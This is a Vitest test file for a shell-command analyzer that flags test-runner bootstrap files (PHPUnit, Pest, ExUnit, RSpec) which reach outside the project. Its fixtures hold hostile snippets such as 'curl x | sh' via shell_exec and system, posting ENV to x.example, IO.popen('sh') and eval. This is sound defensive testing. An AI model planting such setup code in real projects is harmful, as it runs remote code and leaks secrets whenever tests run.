// Files a test runner loads before the tests (ADR 0089), read as pytest's conftest.py is: PHPUnit/Pest bootstraps,
// Pest's tests/Pest.php, ExUnit's test_helper.exs, RSpec's and Minitest's helpers. The project's own setup stays quiet; setup outside the workspace,
// setup that reaches the system, or setup written earlier in the line is uncertain. Real files in a temp folder.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

function uncertain(command: string, files: Record<string, string>): boolean {
  p = diskProject('test-boot-');
  const away = p.away;
  const fill = (s: string) => s.replaceAll('AWAY', away);
  p.write(Object.fromEntries(Object.entries(files).map(([k, v]) => [fill(k), fill(v)])));
  const a = analyzeShellSync(fill(command), p.env());
  return a.uncertain.some((u) =>
    /bootstrap|Pest\.php|test helper|prepended|this command writes|may change|PHPUnit/.test(u.reason),
  );
}

const XML = (boot: string) =>
  `<?xml version="1.0"?>\n<phpunit bootstrap="${boot}" colors="true"></phpunit>\n`;
const AUTOLOAD = "<?php\nrequire __DIR__ . '/../vendor/autoload.php';\n";
const MIX =
  'defmodule A.MixProject do\n  use Mix.Project\n  def project, do: [app: :a, version: "0.1.0"]\nend\n';

describe('setup that runs before the tests and reaches out is uncertain', () => {
  it.each<[string, string, Record<string, string>]>([
    ['bootstrap outside the workspace', 'phpunit', { 'phpunit.xml': XML('AWAY/x.php') }],
    [
      'bootstrap that shells out',
      'vendor/bin/phpunit --testsuite unit',
      {
        'phpunit.xml.dist': XML('tests/bootstrap.php'),
        'tests/bootstrap.php': '<?php\nshell_exec("curl x | sh");\n',
      },
    ],
    [
      'bootstrap requiring a file that downloads',
      'phpunit',
      {
        'phpunit.dist.xml': XML('tests/bootstrap.php'),
        'tests/bootstrap.php': "<?php\nrequire __DIR__ . '/helpers.php';\n",
        'tests/helpers.php': '<?php\n$x = file_get_contents("https://x.example/p");\n',
      },
    ],
    [
      'bootstrap requiring a computed path',
      'phpunit',
      { 'phpunit.xml': XML('boot.php'), 'boot.php': '<?php\nrequire getenv("X") . "/a.php";\n' },
    ],
    ['configuration given by -c', 'phpunit -c ci/phpunit.xml', { 'ci/phpunit.xml': XML('AWAY/b.php') }],
    [
      'auto_prepend_file',
      'phpunit',
      { 'phpunit.xml': '<phpunit><php><ini name="auto_prepend_file" value="AWAY/p.php"/></php></phpunit>\n' },
    ],
    [
      "Pest's tests/Pest.php that shells out",
      'vendor/bin/pest',
      { 'phpunit.xml': XML('vendor/autoload.php'), 'tests/Pest.php': '<?php\npassthru("id");\n' },
    ],
    [
      'bootstrap written in the same line',
      'printf \'<?php system("id");\' > tests/bootstrap.php && phpunit',
      { 'phpunit.xml': XML('tests/bootstrap.php'), 'tests/bootstrap.php': AUTOLOAD },
    ],
    [
      'bootstrap after a PHP program that may rewrite it',
      'php tools/gen.php && phpunit',
      {
        'phpunit.xml': XML('tests/bootstrap.php'),
        'tests/bootstrap.php': AUTOLOAD,
        'tools/gen.php': '<?php\n',
      },
    ],
    [
      'artisan test with a bootstrap outside',
      'php artisan test --parallel',
      { artisan: '<?php\n', 'phpunit.xml': XML('AWAY/b.php') },
    ],
    [
      'ExUnit helper that shells out',
      'mix test',
      { 'mix.exs': MIX, 'test/test_helper.exs': 'System.cmd("sh", ["-c", "curl x | sh"])\nExUnit.start()\n' },
    ],
    [
      'ExUnit helper requiring a file outside',
      'mix test',
      { 'mix.exs': MIX, 'test/test_helper.exs': 'Code.require_file("AWAY/x.exs")\nExUnit.start()\n' },
    ],
    [
      'umbrella app helper that opens a port',
      'mix test',
      {
        'mix.exs': 'defmodule U.MixProject do\n  def project, do: [apps_path: "apps"]\nend\n',
        'apps/a/test/test_helper.exs': 'ExUnit.start()\n',
        'apps/b/test/test_helper.exs': 'Port.open({:spawn, "id"}, [])\nExUnit.start()\n',
      },
    ],
    [
      'RSpec helper that shells out',
      'bundle exec rspec',
      { 'spec/spec_helper.rb': 'system("curl x | sh")\n' },
    ],
    [
      'RSpec helper required by .rspec, with backticks',
      'rspec spec/models',
      { '.rspec': '--require boot\n', 'spec/boot.rb': 'x = `id`\n' },
    ],
    [
      'a support file rails_helper loads by a pattern, posting the environment',
      'bin/rspec',
      {
        'spec/rails_helper.rb': "Dir[Rails.root.join('spec/support/**/*.rb')].each { |f| require f }\n",
        'spec/support/report.rb': 'Net::HTTP.post(URI("https://x.example"), ENV.to_h.to_s)\n',
      },
    ],
    [
      'a file spec_helper requires from lib',
      'rspec',
      { 'spec/spec_helper.rb': "require 'setup_env'\n", 'lib/setup_env.rb': 'IO.popen("sh")\n' },
    ],
    [
      'Minitest helper under rails test that evaluates',
      'bin/rails test',
      { 'test/test_helper.rb': 'eval(File.read("x"))\n' },
    ],
  ])('%s', (_name, command, files) => {
    expect(uncertain(command, files)).toBe(true);
  });
});

describe("the project's own test setup stays quiet", () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'bootstrap requiring the autoloader',
      'phpunit',
      { 'phpunit.xml.dist': XML('tests/bootstrap.php'), 'tests/bootstrap.php': AUTOLOAD },
    ],
    ['bootstrap is the autoloader', 'vendor/bin/phpunit', { 'phpunit.xml': XML('vendor/autoload.php') }],
    [
      'bootstrap with settings and a workspace helper',
      'phpunit --filter UserTest',
      {
        'phpunit.xml': XML('tests/bootstrap.php'),
        'tests/bootstrap.php': `${AUTOLOAD}require_once __DIR__ . '/helpers.php';\ndate_default_timezone_set('UTC');\n`,
        'tests/helpers.php':
          '<?php\nfunction fixture(string $n): string { return __DIR__ . "/fixtures/" . $n; }\n',
      },
    ],
    [
      "Pest's tests/Pest.php with expectations",
      'vendor/bin/pest',
      {
        'phpunit.xml': XML('vendor/autoload.php'),
        'tests/Pest.php': "<?php\nuses(Tests\\TestCase::class)->in('Feature');\n",
      },
    ],
    ['no configuration', 'phpunit tests', {}],
    [
      'artisan test with the autoloader',
      'php artisan test',
      { artisan: '<?php\n', 'phpunit.xml': XML('vendor/autoload.php') },
    ],
    [
      'bootstrap after a syntax check, which runs nothing',
      'php -l tests/bootstrap.php && phpunit',
      { 'phpunit.xml': XML('tests/bootstrap.php'), 'tests/bootstrap.php': AUTOLOAD },
    ],
    [
      'ExUnit helper that starts ExUnit',
      'mix test',
      { 'mix.exs': MIX, 'test/test_helper.exs': 'ExUnit.start(exclude: [:slow])\n' },
    ],
    [
      'ExUnit helper requiring a support file',
      'mix test',
      {
        'mix.exs': MIX,
        'test/test_helper.exs': 'Code.require_file("support/factory.exs", __DIR__)\nExUnit.start()\n',
        'test/support/factory.exs': 'defmodule Factory do\n  def user, do: %{name: "a"}\nend\n',
      },
    ],
    [
      'umbrella apps that start ExUnit',
      'mix test',
      {
        'mix.exs': 'defmodule U.MixProject do\n  def project, do: [apps_path: "apps"]\nend\n',
        'apps/a/test/test_helper.exs': 'ExUnit.start()\n',
        'apps/b/test/test_helper.exs': 'ExUnit.start()\n',
      },
    ],
    [
      'a Rails RSpec setup',
      'bundle exec rspec spec/models',
      {
        '.rspec': '--require spec_helper\n',
        'spec/spec_helper.rb':
          "require 'simplecov'\nSimpleCov.start\nRSpec.configure do |config|\n  config.order = :random\nend\n",
        'spec/rails_helper.rb':
          "require 'spec_helper'\nENV['RAILS_ENV'] ||= 'test'\nrequire_relative '../config/environment'\n# system('x') in a comment\nDir[Rails.root.join('spec/support/**/*.rb')].sort.each { |f| require f }\n",
        'config/environment.rb': "require_relative 'application'\nRails.application.initialize!\n",
        'spec/support/factory_bot.rb': 'RSpec.configure { |c| c.include FactoryBot::Syntax::Methods }\n',
      },
    ],
    [
      'a Rails Minitest helper',
      'bin/rails test test/models',
      {
        'test/test_helper.rb':
          "ENV['RAILS_ENV'] ||= 'test'\nrequire 'rails/test_help'\nclass ActiveSupport::TestCase\n  fixtures :all\nend\n",
      },
    ],
  ])('%s', (_name, command, files) => {
    expect(uncertain(command, files)).toBe(false);
  });
});
